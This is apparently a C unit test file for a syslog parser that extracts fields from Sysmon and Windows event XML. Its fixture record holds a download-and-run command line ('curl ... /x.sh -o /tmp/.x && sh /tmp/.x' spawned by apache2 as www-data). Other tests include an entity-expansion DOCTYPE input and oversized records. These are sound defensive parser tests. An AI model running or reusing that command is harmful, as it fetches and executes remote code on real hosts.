/*
 * test_event_xml.c - event XML inside syslog messages (parsers/event_xml.c):
 * Sysmon for Linux's records through rsyslog, a bare <Event> line, Windows
 * rendered XML with a namespace, XML escapes and CDATA, and bad input:
 * broken XML, a DOCTYPE with entities, invalid UTF-8, a record larger than
 * the parser's arena. A record is never lost: msg stays the whole message.
 * Run with few names (a lookup per name) and with many (the parser's hash).
 */
#include <criterion/criterion.h>
#include <criterion/parameterized.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "parse_names.h"

enum {
    F_EVENTID = CR_F__BUILTIN,
    F_CHANNEL,
    F_PROVIDER,
    F_COMPUTER,
    F_IMAGE,
    F_CMDLINE,
    F_PARENT,
    F_USER,
    F_RULENAME,
    F_SYSTIME,
    F__END
};

static const char *const base_names[] = {"Event.System.EventID",
                                         "Event.System.Channel",
                                         "Event.System.Provider.#attributes.Name",
                                         "Event.System.Computer",
                                         "Event.EventData.Image",
                                         "Event.EventData.CommandLine",
                                         "Event.EventData.ParentImage",
                                         "Event.EventData.User",
                                         "Event.EventData.RuleName",
                                         "Event.System.TimeCreated.#attributes.SystemTime"};

static void make(int many) { pn_make(base_names, sizeof base_names / sizeof *base_names, many); }

/* Sysmon for Linux's ProcessCreate as it writes it (one line, no blanks) */
#define SYSMON_SYSTEM(id)                                                                          \
    "<System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/>"    \
    "<EventID>" id "</EventID><Version>5</Version><Level>4</Level><Task>1</Task>"                  \
    "<Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"                                    \
    "<TimeCreated SystemTime=\"2026-03-02T08:15:01.123456000Z\"/><EventRecordID>4411"              \
    "</EventRecordID><Correlation/><Execution ProcessID=\"1161\" ThreadID=\"1161\"/>"              \
    "<Channel>Linux-Sysmon/Operational</Channel><Computer>app-07</Computer>"                       \
    "<Security UserId=\"0\"/></System>"

static const char sysmon_exec[] = "<Event>" SYSMON_SYSTEM(
    "1") "<EventData><Data Name=\"RuleName\">-</Data><Data Name=\"UtcTime\">2026-03-02 "
         "08:15:01.126</Data><Data Name=\"ProcessGuid\">{6b2a9bc6-6a45-63ff-2d3c-"
         "b1a97e550000}</Data><Data Name=\"ProcessId\">20711</Data><Data "
         "Name=\"Image\">/usr/bin/curl</Data><Data Name=\"FileVersion\">-</Data><Data "
         "Name=\"CommandLine\">curl -s http://198.51.100.7/x.sh -o /tmp/.x &amp;&amp; sh "
         "/tmp/.x</Data><Data Name=\"CurrentDirectory\">/tmp</Data><Data "
         "Name=\"User\">www-data</Data><Data Name=\"ParentImage\">/usr/sbin/apache2</Data>"
         "</EventData></Event>";

ParameterizedTestParameters(event_xml, all)
{
    static int v[] = {0, 1};
    return cr_make_param_array(int, v, 2);
}

ParameterizedTest(int *many, event_xml, all, .fini = pn_free)
{
    make(*many);
    char rec[8192];

    /* through rsyslog: the header's time and host stay, the XML gives the rest */
    snprintf(rec, sizeof rec, "<134>Mar  2 08:15:01 app-07 sysmon: %s", sysmon_exec);
    cr_assert_eq(pn_parse(rec), CR_PARSE_OK);
    pn_want(F_EVENTID, "1");
    pn_want(F_CHANNEL, "Linux-Sysmon/Operational");
    pn_want(F_PROVIDER, "Linux-Sysmon");
    pn_want(F_COMPUTER, "app-07");
    pn_want(F_IMAGE, "/usr/bin/curl");
    pn_want(F_CMDLINE, "curl -s http://198.51.100.7/x.sh -o /tmp/.x && sh /tmp/.x");
    pn_want(F_PARENT, "/usr/sbin/apache2");
    pn_want(F_USER, "www-data");
    pn_want(F_RULENAME, "-");
    pn_want(F_SYSTIME, "2026-03-02T08:15:01.123456000Z");
    pn_want(CR_F_PROGRAM, "sysmon");
    pn_want(CR_F_HOST, "app-07");
    pn_msg_is_whole(sysmon_exec);
    cr_assert_eq(pn_ev.flags & (CR_EV_NO_TIME | CR_EV_HEADERLESS | CR_EV_PARSE_ERROR), 0u);

    /* a bare line: its time is System/TimeCreated */
    cr_assert_eq(pn_parse(sysmon_exec), CR_PARSE_OK);
    cr_assert_eq(pn_ev.time_ms, 1772439301123LL);
    cr_assert_eq(pn_ev.flags & (CR_EV_NO_TIME | CR_EV_HEADERLESS), 0u);
    pn_want(F_IMAGE, "/usr/bin/curl");

    /* Windows rendered XML: namespace, blanks between elements, an empty
     * Data, CDATA, character references */
    const char *win = "<14>Mar  2 08:16:00 wef01 evtfwd: <?xml version=\"1.0\"?>\n"
                      "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\n"
                      "  <System>\n    <Provider Name=\"Microsoft-Windows-Sysmon\"/>\n"
                      "    <EventID>1</EventID>\n"
                      "    <Channel>Microsoft-Windows-Sysmon/Operational</Channel>\n"
                      "  </System>\n  <EventData>\n"
                      "    <Data Name=\"Image\">C:\\Windows\\System32\\cmd.exe</Data>\n"
                      "    <Data Name=\"CommandLine\"><![CDATA[cmd /c \"echo <x>\"]]> &#x41;&#66;"
                      "</Data>\n    <Data Name=\"User\"/>\n  </EventData>\n</Event>";
    cr_assert_eq(pn_parse(win), CR_PARSE_OK);
    pn_want(F_CHANNEL, "Microsoft-Windows-Sysmon/Operational");
    pn_want(F_IMAGE, "C:\\Windows\\System32\\cmd.exe");
    pn_want(F_CMDLINE, "cmd /c \"echo <x>\" AB");
    pn_want(F_USER, "");
    cr_assert_not(cr_event_has(&pn_ev, F_COMPUTER));

    /* the first of a repeated field counts */
    pn_parse("<14>Mar  2 08:16:00 h sysmon: <Event><EventData><Data Name=\"Image\">/a</Data>"
             "<Data Name=\"Image\">/b</Data></EventData></Event>");
    pn_want(F_IMAGE, "/a");

    /* broken XML: partial (headerless in the metrics); fields before the error kept; msg whole */
    const char *broken = "<Event><System><EventID>1</EventID><Channel>Linux-Sysmon/Operational"
                         "</System></Event>";
    snprintf(rec, sizeof rec, "<134>Mar  2 08:15:01 app-07 sysmon: %s", broken);
    cr_assert_eq(pn_parse(rec), CR_PARSE_FALLBACK);
    pn_want(F_EVENTID, "1");
    cr_assert_not(cr_event_has(&pn_ev, F_CHANNEL));
    pn_msg_is_whole(broken);
    snprintf(rec, sizeof rec, "<134>Mar  2 08:15:01 app-07 sysmon: %.60s", sysmon_exec);
    cr_assert_eq(pn_parse(rec), CR_PARSE_FALLBACK, "cut short");
    cr_assert_eq(pn_parse("<Event><EventID>1</EventID>"), CR_PARSE_FALLBACK);
    cr_assert(pn_ev.flags & CR_EV_NO_TIME);
    cr_assert_eq(pn_ev.time_ms, 42);

    /* a DOCTYPE (entity expansion) is refused before any entity is read */
    const char *dtd = "<?xml version=\"1.0\"?><!DOCTYPE Event [<!ENTITY a \"aaaaaaaaaa\">"
                      "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>"
                      "<Event><EventData><Data Name=\"Image\">&b;</Data></EventData></Event>";
    snprintf(rec, sizeof rec, "<14>Mar  2 08:16:00 h sysmon: %s", dtd);
    cr_assert_eq(pn_parse(rec), CR_PARSE_FALLBACK);
    cr_assert_not(cr_event_has(&pn_ev, F_IMAGE));

    /* invalid UTF-8 in a value: not well-formed for expat; the record stays, flagged */
    pn_parse("<14>Mar  2 08:16:00 h sysmon: <Event><EventData><Data Name=\"Image\">/tmp/\xff"
             "x</Data></EventData></Event>");
    cr_assert(pn_ev.flags & CR_EV_BAD_UTF8);
    cr_assert(cr_event_has(&pn_ev, CR_F_MSG));

    /* larger than the arena: the record stays (partial), nothing past the arena is read */
    size_t big = 400 * 1024;
    char *huge = malloc(big + 256);
    cr_assert_not_null(huge);
    int h = snprintf(huge, 256,
                     "<14>Mar  2 08:16:00 h sysmon: <Event><EventData><Data "
                     "Name=\"CommandLine\">");
    memset(huge + h, 'A', big);
    strcpy(huge + h + big, "</Data></EventData></Event>");
    cr_assert_eq(pn_parse(huge), CR_PARSE_FALLBACK);
    cr_assert_not(cr_event_has(&pn_ev, F_CMDLINE));
    pn_msg_is_whole(strstr(huge, "<Event>"));
    free(huge);

    /* a value larger than the value buffer is not read; the others are */
    size_t mid = 20000;
    char *wide = malloc(mid + 512);
    cr_assert_not_null(wide);
    h = snprintf(wide, 512,
                 "<14>Mar  2 08:16:00 h sysmon: <Event><EventData><Data "
                 "Name=\"CommandLine\">");
    memset(wide + h, 'B', mid);
    strcpy(wide + h + mid, "</Data><Data Name=\"Image\">/bin/sh</Data></EventData></Event>");
    cr_assert_eq(pn_parse(wide), CR_PARSE_OK);
    cr_assert_not(cr_event_has(&pn_ev, F_CMDLINE));
    pn_want(F_IMAGE, "/bin/sh");
    free(wide);

    /* not event XML: untouched */
    cr_assert_eq(pn_parse("<14>Mar  2 08:16:00 h app: <Events>1</Events>"), CR_PARSE_OK);
    cr_assert_not(cr_event_has(&pn_ev, F_EVENTID));
    pn_parse("<14>Mar  2 08:16:00 h app: <html><body>x</body></html>");
    cr_assert_not(cr_event_has(&pn_ev, F_EVENTID));

    /* the parser is reused: a good record after all that still reads */
    snprintf(rec, sizeof rec, "<134>Mar  2 08:15:01 app-07 sysmon: %s", sysmon_exec);
    cr_assert_eq(pn_parse(rec), CR_PARSE_OK);
    pn_want(F_CMDLINE, "curl -s http://198.51.100.7/x.sh -o /tmp/.x && sh /tmp/.x");
}
